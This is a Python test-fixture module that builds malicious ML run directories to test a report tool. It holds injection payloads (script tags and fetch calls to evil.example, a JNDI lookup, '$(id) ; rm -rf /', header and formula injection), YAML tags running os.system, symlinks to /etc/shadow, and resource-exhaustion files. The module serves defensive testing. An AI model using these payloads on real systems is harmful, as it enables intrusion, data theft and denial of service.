"""Hostile run directories: each case builds one beside which a healthy run must live.

``CASES`` maps a name to a `Case`; its ``build`` gets a fresh folder below the root.
Everything is written by a seed or by hand, so every run of the suite meets the same
bytes. ``EVIL`` is in every payload that tries to reach out: no address, header or
markup of any output may hold it.
"""

import gzip
import json
import os
import random
import socket
import sqlite3
import stat
import struct
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

from mlreport_batch.formats.kit import events

EVIL = "evil.example"

PAYLOADS = (
    f"</td></table><script src=https://{EVIL}/x.js>alert(1)</script>",
    f'"><img src=https://{EVIL}/p.png onerror=alert(1)>',
    f"'><svg/onload=fetch('//{EVIL}')><a href=javascript:alert(1)>x</a>",
    f"</style><link rel=stylesheet href=//{EVIL}/x.css><style>@import '//{EVIL}'",
    f"--><iframe src=//{EVIL}></iframe><!--",
    f"]]></title><base href=//{EVIL}/><meta http-equiv=refresh content=0>",
    "{{7*7}} {{run}} {{metric:loss}} {{config.__class__.__mro__}}",
    "{% for x in range(10**9) %}x{% endfor %} {# c #} ${7*7} #{7*7} <%= 7*7 %>",
    f"${{jndi:ldap://{EVIL}/a}} `id` $(id) ; rm -rf /",
    f"loss\r\nBcc: victim@{EVIL}\r\nX-Injected: yes\r\n\r\nbody",
    f"loss\nContent-Type: text/html\n\n<h1>{EVIL}</h1>",
    f"=?utf-8?B?PHNjcmlwdD4=?= =?utf-8?Q?=0D=0ABcc:x@{EVIL}?=",
    f'=HYPERLINK("http://{EVIL}","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\x1b[31mred\x1b[2J\x1b]0;title\x07\x1b]8;;https://x\x07",
    "\x00\x01\x08\x7f\x85\x9b31m nul and C1",
    "\u202egnp.exe\u2066\u2069\u200f bidi \u2028line\u2029par \ufeff \U000e0041",
    "z\u0301\u0302\u0303\u0304\u0305" * 20,
    "\U0001f4a9\U0001f468\u200d\U0001f469\u200d\U0001f467 \U00010348 \u4e2d\uac00",
    "../../../../tmp/mlreport-escaped",
    "%s%s%s%n {0.__class__} %(password)s",
    "$\\frac{1}{0}$ $x^{\\input{/etc/passwd}}$",
    "A" * 250,
)
"""Texts that do harm where they are taken for anything but text."""

SURROGATES = ("\ud800", "x\udfffy", "\udcff")

Build = Callable[[Path], object]


@dataclass(frozen=True)
class Case:
    """A hostile run directory.

    Attributes:
        build: Fills the folder; may return a function that undoes side effects.
        says: Texts, one of which must be told of it, in its report or on stdout.
        runs: How many runs are found in it; None where that does not matter.
        reports: Whether those must be reported, too.
    """

    build: Build
    says: tuple[str, ...] = ()
    runs: int | None = 1


CASES: dict[str, Case] = {}
is_long_form = False
"""Whether `many` makes nothing smaller."""


def many(count: int) -> int:
    """Return how many of something to make where a fifth is far too many, too."""
    return count if is_long_form else count // 5


def case(*says: str, runs: int | None = 1) -> Callable[[Build], Build]:
    def keep(build: Build) -> Build:
        CASES[build.__name__] = Case(build, says, runs)
        return build

    return keep


def good_csv(rows: int = 12) -> str:
    lines = (f"{i},{i * 10},{1 / (i + 1):.4f},{i / 20:.4f}" for i in range(rows))
    return "epoch,step,val_loss,val_acc\n" + "\n".join(lines) + "\n"


def healthy(folder: Path) -> None:
    folder.mkdir(parents=True)
    (folder / "metrics.csv").write_text(good_csv())
    (folder / "hparams.yaml").write_text("lr: 0.001\noptimizer: adamw\n")


def sparse(path: Path, size: int, start: bytes = b"", end: bytes = b"") -> None:
    with path.open("wb") as file:
        file.write(start)
        file.truncate(size)
        if end:
            file.seek(size - len(end))
            file.write(end)


def record(data: bytes, length: int | None = None) -> bytes:
    head = struct.pack("<Q", len(data) if length is None else length)
    return (
        head
        + struct.pack("<I", events.masked_crc(head))
        + data
        + struct.pack("<I", events.masked_crc(data))
    )


def varint(number: int) -> bytes:
    out = b""
    while number > 127:
        out += bytes([number & 127 | 128])
        number >>= 7
    return out + bytes([number])


def field(number: int, data: bytes) -> bytes:
    return varint(number << 3 | 2) + varint(len(data)) + data


def scalar_event(step: int, tag: bytes, value: float) -> bytes:
    item = field(1, tag) + b"\x15" + struct.pack("<f", value)
    return record(b"\x10" + varint(step) + field(5, field(1, item)))


# -- names ---------------------------------------------------------------------------


def _file_names() -> Iterator[bytes]:
    for text in PAYLOADS:
        name = text.replace("\0", "").replace("/", "\\").encode()[:240]
        yield name
    yield b"\xff\xfe\x80 not utf-8 \xed\xa0\x80"
    yield b"-rf"
    yield b" "
    yield b"new\nline"
    yield b"con.csv\xc0\xaf"


def _run_at(folder: bytes) -> None:
    os.makedirs(folder)
    with open(folder + b"/metrics.csv", "w", encoding="utf-8") as file:
        file.write(good_csv(3))


@case(runs=None)
def names_of_runs(folder: Path) -> None:
    for name in _file_names():
        _run_at(os.fsencode(folder) + b"/" + name)


@case()
def names_of_files(folder: Path) -> None:
    base = os.fsencode(folder) + b"/"
    (folder / "metrics.csv").write_text(good_csv())
    for number, name in enumerate(_file_names()):
        for suffix in (b".csv", b".ckpt", b".jsonl"):
            with open(base + name + suffix, "w", encoding="utf-8") as file:
                if suffix == b".csv":
                    file.write(f"step,loss\n1,{number}.5\n2,{number}.25\n")
                elif suffix == b".jsonl":
                    file.write('{"step": 1, "loss": 0.5}\n')


@case(runs=None)
def names_of_255_bytes(folder: Path) -> None:
    path = os.fsencode(folder)
    for letter in (b"a", "가".encode(), b"\xff"):
        path += b"/" + (letter * 255)[: 255 // len(letter) * len(letter)]
        _run_at(path)
    with open(path + b"/" + b"m" * 250 + b".ckpt", "wb"):
        pass


@case("loss0", runs=1)
def names_that_look_alike_when_cleaned(folder: Path) -> None:
    base = os.fsencode(folder)
    for number, byte in enumerate((b"\x01", b"\x02", b"\x03", b"\xff")):
        with open(base + b"/metrics" + byte + b".csv", "w", encoding="utf-8") as file:
            file.write(f"step,loss{number}\n1,0.5\n2,0.25\n")


# -- content that wants to be markup, code, headers -----------------------------------


def _csv_cell(text: str) -> str:
    return '"' + text.replace('"', '""').replace("\n", " ").replace("\r", " ") + '"'


@case()
def payloads_as_columns(folder: Path) -> None:
    names = ",".join(_csv_cell(text.replace("\0", "")) for text in PAYLOADS)
    rows = "".join(f"{i}{',0.5' * len(PAYLOADS)}\n" for i in range(5))
    (folder / "metrics.csv").write_text(f"step,{names}\n{rows}", newline="")


@case("is no number")
def payloads_as_cells(folder: Path) -> None:
    rows = "".join(f"{i},0.5,{_csv_cell(text)}\n" for i, text in enumerate(PAYLOADS, 2))
    (folder / "metrics.csv").write_text(f"step,loss,acc\n1,0.5,0.25\n{rows}")


@case()
def payloads_as_json_keys(folder: Path) -> None:
    with (folder / "metrics.jsonl").open("w") as file:
        for step in range(4):
            row = dict.fromkeys((*PAYLOADS, *SURROGATES), 0.5 * step)
            file.write(json.dumps({"step": step, **row, "loss": 0.1}) + "\n")


@case()
def payloads_as_hparams(folder: Path) -> None:
    healthy_csv = folder / "metrics.csv"
    healthy_csv.write_text(good_csv())
    values = {text: text for text in (*PAYLOADS, *SURROGATES)}
    values["nested"] = {text: [text, {text: text}] for text in PAYLOADS}  # type: ignore[assignment]
    (folder / "hparams.json").write_text(json.dumps(values))
    (folder / "hparams.yaml").write_text(
        "".join(f"{json.dumps(t)}: {json.dumps(t)}\n" for t in PAYLOADS)
    )


@case()
def payloads_as_texts(folder: Path) -> None:
    (folder / "metrics.csv").write_text(good_csv())
    text = "Layer (type) param\n" + "\n".join(PAYLOADS) + "\n"
    (folder / "model_summary.txt").write_text(text)
    (folder / "error.txt").write_text("\n".join(PAYLOADS))
    (folder / "result.json").write_text(
        json.dumps({"training_iteration": 1, "loss": 0.5, "config": {"lr": 1}}) + "\n"
    )
    (folder / "eval_results.json").write_text(json.dumps(dict.fromkeys(PAYLOADS, 0.5)))


@case()
def payloads_as_intent(folder: Path) -> None:
    (folder / "metrics.csv").write_text(good_csv())
    (folder / "intent.json").write_text(
        json.dumps(
            {
                "purpose": " ".join(PAYLOADS),
                "expect": {text: text for text in PAYLOADS},
                "to": [
                    f"victim@{EVIL}",
                    f"me@localhost>\r\nBcc: victim@{EVIL}",
                    f'"x\r\nBcc: y@{EVIL}" <me@localhost>',
                    f"me@localhost, victim@{EVIL}",
                ],
                **dict.fromkeys(PAYLOADS, 1),
            }
        )
    )


@case("only the first 5 of 15,000 addresses")
def intent_to_everybody(folder: Path) -> None:
    (folder / "metrics.csv").write_text(good_csv())
    people = "".join(f"  - person{i}@localhost\n" for i in range(15_000))
    (folder / "intent.yaml").write_text(f"purpose: spam\nto:\n{people}")


@case()
def payloads_as_tensorboard_tags(folder: Path) -> None:
    data = record(struct.pack("<Bd", 9, 1.7e9) + field(3, b"brain.Event:2"))
    for step in range(5):
        for text in (*PAYLOADS, "loss"):
            data += scalar_event(step, text.encode(), 0.5)
        data += scalar_event(step, b"\xff\xfe\x80", 0.5)
    (folder / "events.out.tfevents.1700000000.host.1.0").write_bytes(data)


@case()
def payloads_in_mlflow_files(folder: Path) -> None:
    run = folder / "mlruns" / "0" / ("a" * 32)
    for part in ("metrics", "params", "tags"):
        (run / part).mkdir(parents=True)
    (run / "meta.yaml").write_text(
        f"run_id: {'a' * 32}\nstatus: 1\nrun_name: {json.dumps(PAYLOADS[0])}\n"
    )
    for name in _file_names():
        for part, text in (("metrics", "1700000000000 0.5 1\n"), ("params", "x")):
            target = os.fsencode(run / part) + b"/" + name
            with open(target, "w", encoding="utf-8") as file:
                file.write(text if part == "metrics" else PAYLOADS[1])


def mlflow_database(
    path: Path, runs: int = 1, names: tuple[str, ...] = ("loss",)
) -> None:
    with sqlite3.connect(path) as db:
        db.executescript(
            "CREATE TABLE runs (run_uuid, name, status, lifecycle_stage, start_time);"
            "CREATE TABLE metrics (run_uuid, key, value, step, is_nan);"
            "CREATE TABLE params (run_uuid, key, value);"
        )
        for number in range(runs):
            name, now = names[number % len(names)], time.time_ns() // 1_000_000
            row = (f"{number:032x}", name, "RUNNING", "active", now)
            db.execute("INSERT INTO runs VALUES (?,?,?,?,?)", row)
        for name in names:
            for step in range(3):
                row2 = (f"{0:032x}", name, 0.5, step, 0)
                db.execute("INSERT INTO metrics VALUES (?,?,?,?,?)", row2)
            db.execute("INSERT INTO params VALUES (?,?,?)", (f"{0:032x}", name, name))
    db.close()


@case()
def payloads_in_mlflow_database(folder: Path) -> None:
    mlflow_database(folder / "mlflow.db", runs=5, names=PAYLOADS)


@case()
def payloads_as_hydra_overrides(folder: Path) -> None:
    (folder / ".hydra").mkdir()
    (folder / "metrics.csv").write_text(good_csv())
    (folder / ".hydra" / "config.yaml").write_text("lr: 0.1\n")
    lines = "".join(f"- {json.dumps(f'{t}={t}')}\n" for t in PAYLOADS)
    (folder / ".hydra" / "overrides.yaml").write_text(lines)


# -- YAML ----------------------------------------------------------------------------


@case("nested deeper", "aliases", "values")
def yaml_billion_laughs(folder: Path) -> None:
    (folder / "metrics.csv").write_text(good_csv())
    lines = ["a0: &a0 [lol, lol]"]
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 12)]
    (folder / "hparams.yaml").write_text("\n".join(lines) + "\n")


@case("contains itself")
def yaml_that_contains_itself(folder: Path) -> None:
    (folder / "metrics.csv").write_text(good_csv())
    (folder / "hparams.yaml").write_text("a: &a [*a, *a]\nb: &b {c: *b}\n")


@case("nested deeper")
def yaml_deep(folder: Path) -> None:
    (folder / "metrics.csv").write_text(good_csv())
    (folder / "hparams.yaml").write_text("x: " + "[" * 50_000 + "]" * 50_000)


@case()
def yaml_tags_that_run(folder: Path) -> None:
    marker = folder.parent / "pwned"
    (folder / "metrics.csv").write_text(good_csv())
    (folder / "hparams.yaml").write_text(
        f"a: !!python/object/apply:os.system ['touch {marker}']\n"
        f"b: !!python/object/new:subprocess.Popen [[touch, {marker}]]\n"
        f"c: !include /etc/passwd\nd: ${{HOME}} $HOME ${{oc.env:HOME}}\n"
        "e: !!python/name:os.system\nf: !<tag:yaml.org,2002:python/module:os> x\n"
        "g: !!binary 'aGVsbG8='\nh: !!python/tuple [1, 2]\n"
    )


@case("more than 1,000,000 bytes")
def yaml_of_20_mb(folder: Path) -> None:
    (folder / "metrics.csv").write_text(good_csv())
    (folder / "hparams.yaml").write_bytes(b"a: 'x'\n" * 3_000_000)


@case("values", "%TAG")
def yaml_of_many_values(folder: Path) -> None:
    (folder / "metrics.csv").write_text(good_csv())
    (folder / "hparams.yaml").write_bytes(b"[" + b"0," * 450_000 + b"0]")
    (folder / "config.yaml").write_bytes(
        b"".join(b"%%TAG !a%d! tag:x,2000:\n" % i for i in range(20_000)) + b"--- {}\n"
    )


# -- JSON ----------------------------------------------------------------------------


@case("nested deeper")
def json_deep_line_in_a_good_log(folder: Path) -> None:
    good = [json.dumps({"step": i, "loss": 1 / (i + 1)}) for i in range(20)]
    deep = '{"step": 9, "x": ' + "[" * 100_000 + "]" * 100_000 + "}"
    deep2 = '{"a":' * 100_000 + "1" + "}" * 100_000
    lines = [*good[:10], deep, deep2, *good[10:]]
    (folder / "metrics.jsonl").write_text("\n".join(lines) + "\n")


@case("nested deeper")
def json_deep_document(folder: Path) -> None:
    (folder / "metrics.csv").write_text(good_csv())
    (folder / "hparams.json").write_text('{"a":' * 200_000 + "1" + "}" * 200_000)
    (folder / "trainer_state.json").write_text(
        '{"log_history": ' + "[" * 100_000 + "]" * 100_000 + "}"
    )
    (folder / "eval_results.json").write_text('{"acc": [' + "[" * 100_000)


@case("MiB", "values", "ends in the middle")
def json_of_60_mb(folder: Path) -> None:
    (folder / "metrics.csv").write_text(good_csv())
    (folder / "hparams.json").write_bytes(b'{"a": [' + b"{}," * 20_000_000 + b"{}]}")
    (folder / "trainer_state.json").write_bytes(
        b'{"best_metric": 1, "log_history": [' + b"[]," * 20_000_000 + b"[]]}"
    )
    (folder / "config.json").write_bytes(b'{"model_type": "' + b"x" * 60_000_000)
    os.utime(folder / "config.json", (1, 1))


@case()
def json_strings_of_brackets(folder: Path) -> None:
    (folder / "metrics.csv").write_text(good_csv())
    values = {"a": "[" * 100_000 + "]" * 100_000, "b": "[" + "9" * 5000 + "]"}
    values["c"] = "[NaN, 1e400, -Infinity]"
    values["d"] = "[" * 990 + "]" * 990
    (folder / "hparams.json").write_text(json.dumps(values))


@case()
def json_huge_numbers(folder: Path) -> None:
    digits = "9" * 5000
    lines = [
        '{"step": 1, "loss": 0.5, "acc": 0.1}',
        f'{{"step": 2, "loss": {digits}, "acc": 1e400}}',
        f'{{"step": {digits}, "loss": -{digits}, "acc": -1e400}}',
        f'{{"step": 9223372036854775808, "loss": {2**70}, "acc": NaN}}',
        '{"step": 1e308, "loss": 1e308, "acc": -1e308}',
        '{"step": -1e308, "loss": 5e-324, "acc": 0.2}',
        '{"step": "2026-01-01", "loss": "0x10", "acc": "1_000"}',
        '{"step": true, "loss": false, "acc": null}',
        '{"step": [1], "loss": {"a": 1}, "acc": "nan"}',
    ]
    (folder / "metrics.jsonl").write_text("\n".join(lines) + "\n")
    (folder / "hparams.json").write_text(
        f'{{"a": {digits}, "b": -{digits}, "c": 1e400, "d": {2**64}, "e": NaN}}'
    )
    (folder / "hparams.yaml").write_text(
        f"a: {digits}\nb: 0x{'f' * 5000}\nc: 1e400\nd: .nan\ne: 2026-01-01\nf: 1:30\n"
    )


@case("more metrics")
def json_a_new_key_in_every_row(folder: Path) -> None:
    with (folder / "metrics.jsonl").open("w") as file:
        for i in range(many(125_000)):
            file.write(f'{{"step": {i}, "loss": 0.5, "m{i}{"x" * 60}": 1}}\n')


# -- rows ----------------------------------------------------------------------------


@case("line over 1 MiB")
def line_of_5_mb(folder: Path) -> None:
    rows = good_csv().splitlines(keepends=True)
    rows.insert(5, "5," + "9" * 5_000_000 + ",1,1\n")
    (folder / "metrics.csv").write_text("".join(rows))
    with (folder / "log.jsonl").open("w") as file:
        file.write('{"step": 1, "f1": 0.5}\n{"step": 2, "f1": "')
        file.write("y" * 5_000_000 + '"}\n{"step": 3, "f1": 0.75}\n')


@case("of 20,000", "2,000")
def columns_20_000(folder: Path) -> None:
    names = ",".join(f"loss_{i}" for i in range(20_000))
    row = ",".join(["0.5"] * 20_000)
    rows = "".join(f"{i},{row}\n" for i in range(20))
    (folder / "metrics.csv").write_text(f"step,{names}\n{rows}")


@case("cells where the header has")
def rows_ragged(folder: Path) -> None:
    rows = ["1,0.5,1", "2,0.4", "3,0.3,1,2,3", ",,,", "4,,", "x,y,z", "5,0.2,-", ""]
    rows += ["step,loss,acc", "6,0.1,1", "step,loss,acc,new", "7,0.1,1,2", "step;loss"]
    (folder / "metrics.csv").write_text("step,loss,acc\n" + "\n".join(rows) + "\n")


@case("NUL")
def nul_tail(folder: Path) -> None:
    (folder / "metrics.csv").write_bytes(good_csv().encode() + bytes(5_000_000))
    (folder / "log.jsonl").write_bytes(
        b'{"step": 1, "f1": 0.5}\n' + bytes(3000) + b'\n{"step": 2, "f1": 0.6}\n'
    )


@case()
def other_encodings(folder: Path) -> None:
    (folder / "metrics.csv").write_bytes(good_csv().encode("utf-16"))
    (folder / "log.csv").write_bytes(
        "step,pérte_loss\n1,0.5\n2,0.4\n".encode("latin-1")
    )
    (folder / "hparams.yaml").write_bytes("größe: 5\n".encode("latin-1"))
    (folder / "hparams.json").write_bytes('{"größe": 5}'.encode("utf-16"))
    (folder / "results.json").write_bytes('{"acc": 0.5}'.encode("utf-32"))


@case("binary")
def binaries_called_logs(folder: Path) -> None:
    (folder / "hparams.yaml").write_text("lr: 0.1\n")
    packed = gzip.compress(good_csv().encode() * 50)
    (folder / "metrics.csv").write_bytes(packed)
    (folder / "progress.csv").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 99)
    (folder / "train_log.jsonl").write_bytes(b"PK\3\4" + bytes(range(256)) * 99)
    (folder / "history.csv").write_bytes(random.Random(1).randbytes(100_000))
    (folder / "training.csv").write_bytes(gzip.compress(bytes(100_000_000)))


@case()
def quotes_never_closed(folder: Path) -> None:
    rows = "".join(f'{i},"{i}.5\n' for i in range(100_000))
    (folder / "metrics.csv").write_text('step,loss\n1,0.5\n2,"' + rows)
    (folder / "log.csv").write_text("step,f1\n" + '"' * 900_000 + "\n3,0.5\n")


@case()
def line_ends_of_all_kinds(folder: Path) -> None:
    (folder / "metrics.csv").write_bytes(
        good_csv().encode()
        + b"\n" * many(1_000_000)
        + b"\r" * 900_000
        + b"\n"
        + b",\n" * 99
    )
    (folder / "log.csv").write_bytes(good_csv().replace("\n", "\r").encode())


@case()
def steps_that_are_dates_or_go_back(folder: Path) -> None:
    rows = "".join(f"{i % 2},{0.5 + i % 7},{i}\n" for i in range(many(200_000)))
    (folder / "metrics.csv").write_text("step,loss,acc\n" + rows)
    dates = "".join(f"2026-01-{i + 1:02},0.5,{i}\n" for i in range(20))
    (folder / "log.csv").write_text("step,date_loss,date_acc\n" + dates)
    rng = random.Random(2)
    rows = "".join(f"{rng.randrange(10**6)},0.5\n" for i in range(many(200_000)))
    (folder / "train_log.csv").write_text("step,f1\n" + rows)


@case()
def values_at_the_edge(folder: Path) -> None:
    cells = ("nan", "inf", "-inf", "1e400", "-1e400", "9" * 5000, "1e308", "-1e308")
    cells += ("5e-324", "0", "-0", "", "NaN", "Infinity", "1_000", "٣", "0x10", "1,5")
    rows = "".join(f"{i},{cell},{cell},0.5\n" for i, cell in enumerate(cells))
    rows += "".join(f"{cell},0.5,0.5,0.5\n" for cell in cells)
    (folder / "metrics.csv").write_text("step,loss,acc,f1\n1,1,1,1\n" + rows)


# -- size ----------------------------------------------------------------------------


@case("line over 1 MiB", "not read", "larger")
def sparse_200_mb(folder: Path) -> None:
    (folder / "metrics.csv").write_text(good_csv())
    sparse(folder / "log.csv", 200_000_000, good_csv().encode(), b"\n99,990,1,1\n")
    sparse(folder / "log.jsonl", 200_000_000, b'{"step": 1, "f1": 0.5}\n')
    sparse(folder / "hparams.yaml", 200_000_000, b"lr: 0.1\n")
    sparse(folder / "trainer_state.json", 200_000_000, b'{"log_history": [')


@case("larger than 64 MiB")
def sparse_1_tb(folder: Path) -> None:
    size = 1_000_000_000_000
    sparse(folder / "metrics.csv", size, good_csv().encode())
    sparse(folder / "log.jsonl", size, b'{"step": 1, "f1": 0.5}\n', b"\n")
    sparse(folder / "train.log", size, b"[1]\ttrain-rmse:0.5\n")
    sparse(folder / "hparams.json", size, b'{"lr": 1')
    sparse(folder / "eval_results.json", size, b'{"acc": 1')
    sparse(folder / "model.pt", size)
    sparse(folder / "model_summary.txt", size, b"Layer (type) param\n")
    sparse(folder / "mlflow.db", size, b"SQLite format 3\0")
    sparse(folder / "events.out.tfevents.1.h.1.0", size, scalar_event(1, b"loss", 0.5))


@case()
def sparse_with_islands(folder: Path) -> None:
    (folder / "metrics.csv").write_text(good_csv())
    with (folder / "log.csv").open("wb") as file:
        file.write(b"step,f1\n1,0.5\n")
        for number in range(2000):
            file.seek((number + 1) * 500_000_000)
            file.write(b"x" if number % 2 else b"\n")


@case("ends in the middle", "larger", "MiB")
def one_line_of_300_mb(folder: Path) -> None:
    (folder / "metrics.csv").write_text(good_csv())
    block = b"0.123456," * 116_508
    with (folder / "log.csv").open("wb") as file:
        file.write(b"step,f1\n1,0.5\n2,")
        for _ in range(286):
            file.write(block)
        file.write(b"\n3,0.75\n")


# -- things that are no regular files --------------------------------------------------


@case("not opened")
def special_files(folder: Path) -> None:
    (folder / "metrics.jsonl").write_text('{"step": 1, "loss": 0.5}\n')
    os.mkfifo(folder / "metrics.csv")
    os.mkfifo(folder / "intent.yaml")
    os.mkfifo(folder / "events.out.tfevents.1.h.1.0")
    os.mkfifo(folder / "model.ckpt")
    with socket.socket(socket.AF_UNIX) as made:
        made.bind(os.path.relpath(folder / "hparams.yaml"))
    if os.geteuid() == 0:
        os.mknod(folder / "progress.csv", stat.S_IFCHR | 0o666, os.makedev(1, 5))
        os.mknod(folder / "history.csv", stat.S_IFBLK | 0o666, os.makedev(7, 250))
    (folder / "train_log.csv").mkdir()
    (folder / "results.csv").symlink_to("/dev/zero")


@case("not opened")
def symlinks(folder: Path) -> None:
    outside = folder.parent.parent / "outside"
    outside.mkdir()
    (outside / "metrics.csv").write_text("step,stolen_loss\n1,0.5\n")
    (outside / "secret.yaml").write_text("stolen: yes\n")
    (folder / "metrics.jsonl").write_text('{"step": 1, "loss": 0.5}\n')
    (folder / "metrics.csv").symlink_to(outside / "metrics.csv")
    (folder / "hparams.yaml").symlink_to(outside / "secret.yaml")
    (folder / "out").symlink_to(outside)
    (folder / "up").symlink_to("..")
    (folder / "me").symlink_to(".")
    (folder / "loop_a").symlink_to("loop_b")
    (folder / "loop_b").symlink_to("loop_a")
    (folder / "passwd.csv").symlink_to("/etc/passwd")
    (folder / "model.ckpt").symlink_to("/etc/shadow")
    (folder / "gone.csv").symlink_to("nowhere")


# -- trees ---------------------------------------------------------------------------


@case("deep are left out", runs=None)
def tree_60_deep(folder: Path) -> None:
    (folder / "metrics.csv").write_text(good_csv())
    path = folder
    for number in range(60):
        path = path / f"d{number}"
        path.mkdir()
        (path / "metrics.csv").write_text(good_csv(2))


@case()
def tree_10_000_wide(folder: Path) -> None:
    (folder / "metrics.csv").write_text(good_csv())
    for number in range(many(10_000)):
        (folder / f"d{number}").mkdir()


@case("only 2,000 were looked into")
def folder_of_3_000_logs(folder: Path) -> None:
    for number in range(3000):
        (folder / f"m.{number}.csv").write_text(f"step,loss,acc\n1,0.{number},1\n")


@case("more than 20,000 metrics")
def folder_of_wide_logs(folder: Path) -> None:
    names = ",".join(f"loss_{i}" for i in range(1900))
    for number in range(many(400)):
        row = ",".join([f"0.{number}"] * 1900)
        (folder / f"m.{number}.csv").write_text(f"step,{names}\n1,{row}\n")


# -- databases and event files ---------------------------------------------------------


@case()
def database_corrupt(folder: Path) -> None:
    (folder / "metrics.csv").write_text(good_csv())
    path = folder / "mlflow.db"
    mlflow_database(path, runs=50, names=tuple(f"m{i}" for i in range(200)))
    data = bytearray(path.read_bytes())
    rng = random.Random(3)
    for _ in range(300):
        data[rng.randrange(100, len(data))] = rng.randrange(256)
    path.write_bytes(data)
    os.utime(path, (1, 1))


@case("ends in the middle", "no SQLite")
def database_cut(folder: Path) -> None:
    (folder / "metrics.csv").write_text(good_csv())
    path = folder / "mlflow.db"
    mlflow_database(path, runs=50, names=tuple(f"m{i}" for i in range(200)))
    path.write_bytes(path.read_bytes()[:9000])
    os.utime(path, (1, 1))


@case()
def database_locked(folder: Path) -> Callable[[], None]:
    path = folder / "mlflow.db"
    mlflow_database(path)
    db = sqlite3.connect(path, isolation_level=None)
    db.execute("BEGIN EXCLUSIVE")
    return db.close


@case(runs=None)
def database_of_many_runs(folder: Path) -> None:
    path = folder / "mlflow.db"
    mlflow_database(path)
    with sqlite3.connect(path) as db:
        db.executemany(
            "INSERT INTO runs VALUES (?, ?, 'RUNNING', 'active', 1)",
            ((f"r{i}", f"name {i // 2}") for i in range(many(1500))),
        )
    db.close()


@case()
def database_of_many_metrics(folder: Path) -> None:
    path = folder / "mlflow.db"
    mlflow_database(path)
    with sqlite3.connect(path) as db:
        db.executemany(
            "INSERT INTO metrics VALUES (?, 'm', 0.5, ?, 0)",
            ((f"{0:032x}", i) for i in range(many(900_000))),
        )
    db.close()


@case("generated", runs=0)
def database_that_computes(folder: Path) -> None:
    path = folder / "mlflow.db"
    with sqlite3.connect(path) as db:
        db.executescript(
            "CREATE TABLE runs (run_uuid, name, status, lifecycle_stage, start_time);"
            "CREATE TABLE metrics (run_uuid, key, value, step, is_nan);"
            "CREATE TABLE params (run_uuid, key,"
            " value AS (hex(zeroblob(400000000))) VIRTUAL);"
            "INSERT INTO runs VALUES ('r', 'n', 'RUNNING', 'active', 1);"
            "INSERT INTO metrics VALUES ('r', 'loss', 0.5, 1, 0);"
            "INSERT INTO params (run_uuid, key) VALUES ('r', 'k');"
        )
    db.close()
    os.utime(path, (1, 1))


@case("no tables", runs=0)
def database_of_views(folder: Path) -> None:
    path = folder / "mlflow.db"
    endless = (
        "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) "
        "SELECT x AS run_uuid, x AS name, 'RUNNING' AS status, "
        "'active' AS lifecycle_stage, x AS start_time FROM c"
    )
    with sqlite3.connect(path) as db:
        db.execute(f"CREATE VIEW runs AS {endless}")
        db.execute("CREATE TABLE metrics (run_uuid, key, value, step, is_nan)")
        db.execute("CREATE TABLE params (run_uuid, key, value)")
    db.close()
    os.utime(path, (1, 1))


@case("record")
def events_with_absurd_lengths(folder: Path) -> None:
    good = scalar_event(1, b"loss", 0.5) + scalar_event(2, b"loss", 0.4)
    for number, length in enumerate((2**63, 2**64 - 1, 2**40, 10**8)):
        path = folder / f"events.out.tfevents.170000000{number}.h.1.0"
        path.write_bytes(good + record(b"x" * 50, length) + bytes(100_000))
    (folder / "events.out.tfevents.1700000009.h.1.0").write_bytes(good + b"\xff" * 5000)


@case()
def events_of_garbage(folder: Path) -> None:
    rng = random.Random(4)
    data = scalar_event(1, b"loss", 0.5)
    for size in range(300):
        data += record(rng.randbytes(size))
        data += record(field(5, field(1, rng.randbytes(size))))
    tensor = field(8, rng.randbytes(40))
    data += record(field(5, field(1, field(1, b"acc") + tensor)))
    data += record(b"\x08\x00" * many(3_000_000))
    data += scalar_event(2, b"loss", float("nan")) + scalar_event(
        -5 & 2**64 - 1, b"b", 1
    )
    (folder / "events.out.tfevents.1700000000.h.1.0").write_bytes(data)


LONG_CASES = [
    name
    for name, each in CASES.items()
    if many.__name__ in each.build.__code__.co_names  # type: ignore[attr-defined]
]
"""The cases that are larger in the long form."""
